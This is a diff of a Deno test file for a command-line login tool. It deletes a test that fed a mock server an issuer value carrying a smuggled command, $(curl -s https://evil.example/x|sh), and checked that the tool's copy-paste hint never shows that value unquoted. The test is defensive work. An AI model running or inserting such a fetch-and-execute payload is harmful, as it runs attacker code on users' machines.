@@ -208,20 +208,6 @@ Deno.test(
 
 // ── 7. A server's text in a hint to copy into a shell ───────────────────────────────────────────
 
-Deno.test("a hint never hands the person a server's shell metacharacters unquoted (--issuer from an issuer mismatch)", async () => {
-  await withMock(async (mock) => {
-    mock.metadata.issuer = `${mock.issuer}/$(curl -s https://evil.example/x|sh)`;
-    const result = await run(["login", "--issuer", mock.issuer, "--client-id", PUBLIC_CLIENT.id]);
-    try {
-      assertEquals(result.code, EXIT.usage, result.stderr);
-      const hint = result.stderr.split("\n").find((line) => line.startsWith("hint:")) ?? "";
-      assert(!/--issuer [^'"\s]*\$\(/.test(hint), `the hint offers an unquoted command substitution: ${hint}`);
-    } finally {
-      await cleanUp(result);
-    }
-  });
-});
-
 // ── 8. The documented way to use a token ────────────────────────────────────────────────────────
 
 Deno.test(
